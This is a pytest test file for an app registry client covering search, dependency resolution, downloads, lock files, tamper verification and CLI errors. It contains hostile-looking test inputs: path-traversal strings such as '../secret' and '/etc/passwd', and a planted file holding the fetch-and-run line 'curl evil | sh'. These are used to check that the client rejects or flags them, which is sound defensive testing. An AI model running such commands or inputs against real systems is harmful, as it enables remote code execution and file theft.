@@ -1,0 +1,198 @@
+"""Search, resolve, fetch, lock and verify end to end: over HTTP, from a folder, via the CLI."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from appshelf.cli import main
+from appshelf.client.errors import DigestMismatch, LockMismatch, NotFound
+from appshelf.client.lock import check_lock, lock_plan, read_lock, write_lock
+from appshelf.client.search import search
+from appshelf.client.transport import FolderTransport
+from appshelf.client.verify import verify_registry
+from conftest import StaticServer, build
+
+from .conftest import ClientFactory
+
+
+def _resolve(client, *roots: str):  # type: ignore[no-untyped-def]
+    from appshelf.cli.client_options import resolve_with
+
+    return resolve_with(client, roots, False)
+
+
+def test_example_plan_over_http(served_registry: StaticServer, make_client: ClientFactory) -> None:
+    client = make_client(served_registry.url)
+    plan = _resolve(client, "jira-sync@3.1", "slack-notify")
+    assert [(i.app, i.version) for i in plan.installs] == [
+        ("http-client", "1.0.1"),
+        ("kv-store", "1.1.1"),
+        ("jira-sync", "3.1.0"),
+        ("slack-notify", "1.1.0"),
+    ]
+    assert plan.interfaces == {"storage.kv": "kv-store"}
+
+
+def test_search_the_index(served_registry: StaticServer, make_client: ClientFactory) -> None:
+    index = make_client(served_registry.url).index()
+    assert [h.entry.key for h in search(index, "kv")] == ["kv-store", "jira-sync"]  # requires
+    assert [h.entry.key for h in search(index, "", provides="storage.kv")] == ["kv-store"]
+    assert [h.entry.key for h in search(index, "", requires="storage.kv")] == ["jira-sync"]
+    assert [h.entry.key for h in search(index, "slack webhook")] == ["slack-notify"]
+    assert [h.entry.key for h in search(index, "", tag="http")] == ["http-client"]
+    assert search(index, "nothing-like-this") == []
+
+
+def test_fetch_from_a_folder(
+    served_registry: StaticServer, make_client: ClientFactory, tmp_path: Path
+) -> None:
+    client = make_client(served_registry.root)
+    plan = _resolve(client, "slack-notify@1.0.0")
+    dest = tmp_path / "dl"
+    downloads = [client.download(i.app, i.version, dest) for i in plan.installs]
+    assert sorted(p.name for p in dest.iterdir()) == [
+        "http-client-1.0.1.tar.gz",
+        "slack-notify-1.0.0.tar.gz",
+    ]
+    again = client.download("slack-notify", "1.0.0", dest)
+    assert again.reused and again.sha256 == downloads[-1].sha256
+
+
+def test_folder_transport_stays_inside(tmp_path: Path) -> None:
+    (tmp_path / "reg").mkdir()
+    (tmp_path / "secret").write_text("x")
+    (tmp_path / "reg" / "link").symlink_to(tmp_path / "secret")
+    transport = FolderTransport(tmp_path / "reg")
+    for bad in ("../secret", "/etc/passwd", "link", "a/../../secret", "a\\b"):
+        with pytest.raises(NotFound):
+            list(transport.chunks(bad, 100, "test"))
+
+
+def test_lock_then_fetch_exactly(
+    served_registry: StaticServer, make_client: ClientFactory, tmp_path: Path
+) -> None:
+    client = make_client(served_registry.url)
+    lock = lock_plan(client, _resolve(client, "kv-store@=1.1.0"))
+    path = tmp_path / "appshelf.lock"
+    write_lock(lock, path)
+    stored = read_lock(path)
+    assert stored.apps[0].version == "1.1.0" and stored.apps[0].keyid == client.snapshot.keyid
+    assert [m.manifest.version for m in check_lock(make_client(served_registry.url), stored)] == [
+        "1.1.0"
+    ]
+    data = json.loads(path.read_text())
+    data["apps"][0]["artifact"]["sha256"] = "1" * 64
+    path.write_text(json.dumps(data))
+    with pytest.raises(LockMismatch, match=r"differs from the lock"):
+        check_lock(make_client(served_registry.url), read_lock(path))
+
+
+def test_lock_fails_when_the_registry_changes(
+    example_source: Path, tmp_path: Path, make_client: ClientFactory
+) -> None:
+    with StaticServer(tmp_path / "www") as server:
+        build(example_source, server.root, base_url=server.url)
+        client = make_client(server.url)
+        lock = lock_plan(client, _resolve(client, "hello-world@1.0.0"))
+        release = example_source / "apps/hello-world/1.0.0/release.toml"
+        release.write_text(release.read_text() + 'yanked = "security hole"\n')
+        build(example_source, server.root, base_url=server.url)
+        with pytest.raises(LockMismatch, match=r"yanked: security hole"):
+            check_lock(make_client(server.url), lock)
+
+
+def test_verify_clean_registry(served_registry: StaticServer, make_client: ClientFactory) -> None:
+    report = verify_registry(make_client(served_registry.url), artifacts=True)
+    assert report.ok, report.failures
+    assert (report.pinned_files, report.manifests, report.artifacts_checked) == (13, 14, 13)
+    assert len(report.external_skipped) == 1
+
+
+def test_verify_lists_every_problem(
+    served_registry: StaticServer, make_client: ClientFactory
+) -> None:
+    root = served_registry.root
+    (root / "apps/kv-store/1.1.1/kv-store-1.1.1.tar.gz").write_bytes(b"evil")
+    (root / "apps/hello-world/1.0.0/hello-world-1.0.0.tar.gz").unlink()
+    (root / "apps/kv-store/1.0.0/payload.sh").write_text("curl evil | sh")
+    path = root / "apps/slack-notify/versions.json"
+    path.write_bytes(path.read_bytes() + b" ")
+    report = verify_registry(make_client(root), artifacts=False)
+    failures = "\n".join(report.failures)
+    assert (
+        "kv-store 1.1.1 artifact: apps/kv-store/1.1.1/kv-store-1.1.1.tar.gz has 4 bytes" in failures
+    )
+    assert "apps/hello-world/1.0.0/hello-world-1.0.0.tar.gz is missing" in failures
+    assert "apps/kv-store/1.0.0/payload.sh: under apps/ but not covered" in failures
+    assert "apps/slack-notify/versions.json" in failures
+    assert len(report.failures) == 4
+    report = verify_registry(make_client(served_registry.url), artifacts=True)
+    assert any(isinstance(e, str) and "altered" in e for e in report.failures)
+    assert any("not found" in e for e in report.failures)
+
+
+def test_tampered_download_from_a_folder(
+    served_registry: StaticServer, make_client: ClientFactory, tmp_path: Path
+) -> None:
+    folder = tmp_path / "mirror"
+    shutil.copytree(served_registry.root, folder)
+    (folder / "apps/http-client/1.0.1/http-client-1.0.1.tar.gz").write_bytes(b"x")
+    with pytest.raises(DigestMismatch):
+        make_client(folder).download("http-client", "1.0.1", tmp_path / "dl")
+    assert list((tmp_path / "dl").iterdir()) == []
+
+
+@pytest.fixture
+def live(example_source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
+    """The example registry signed now (the CLI uses the real clock)."""
+    monkeypatch.setenv("APPSHELF_STATE_DIR", str(tmp_path / "cli-state"))
+    with StaticServer(tmp_path / "live") as server:
+        build(example_source, server.root, base_url=server.url, now=datetime.now(UTC))
+        yield server
+
+
+def _cli(*args: str) -> tuple[int, str]:
+    result = CliRunner().invoke(main, list(args))
+    return result.exit_code, result.output
+
+
+def test_cli_commands(live: StaticServer, tmp_path: Path) -> None:
+    reg = ["-r", live.url, "--allow-dev-key"]
+    code, out = _cli("resolve", *reg, "jira-sync@^3.1.0", "slack-notify", "--json")
+    assert code == 0, out
+    plan = json.loads(out)
+    assert [i["app"] for i in plan["install"]][-2:] == ["jira-sync", "slack-notify"]
+    code, out = _cli("search", *reg, "storage", "--json")
+    assert code == 0 and {a["key"] for a in json.loads(out)} == {"kv-store", "jira-sync"}
+    lock_path = tmp_path / "appshelf.lock"
+    code, out = _cli("lock", *reg, "slack-notify@1.1", "-o", str(lock_path))
+    assert code == 0, out
+    code, out = _cli(
+        "fetch", "--allow-dev-key", "--lock", str(lock_path), "-d", str(tmp_path / "d"), "--json"
+    )
+    assert code == 0, out
+    assert sorted(r["app"] for r in json.loads(out)) == ["http-client", "slack-notify"]
+    code, out = _cli("fetch", *reg, "kv-store@1.0", "-d", str(tmp_path / "e"))
+    assert code == 0 and (tmp_path / "e/kv-store-1.0.0.tar.gz").is_file()
+    code, out = _cli("verify", live.url, "--allow-dev-key", "--artifacts")
+    assert code == 0 and "OK: no problems" in out, out
+
+
+def test_cli_errors(live: StaticServer) -> None:
+    code, out = _cli("resolve", "-r", live.url, "kv-store")
+    assert code == 1 and "Error: no trusted keys" in out
+    dev = "--allow-dev-key"
+    code, out = _cli("resolve", "-r", live.url, dev, "jira-sync@3.2.0", "slack-notify@1.0.0")
+    assert code == 1 and "http-client: no single version satisfies all of these" in out
+    code, out = _cli("resolve", "-r", live.url, dev, "kv-store@^1..2")
+    assert code == 1 and "invalid version range" in out
+    (live.root / "apps/kv-store/app.json").write_text("{}")
+    code, out = _cli("verify", live.url, dev)
+    assert code == 1 and "FAILED" in out and "Error: 1 problem(s)" in out
+    assert "Traceback" not in out
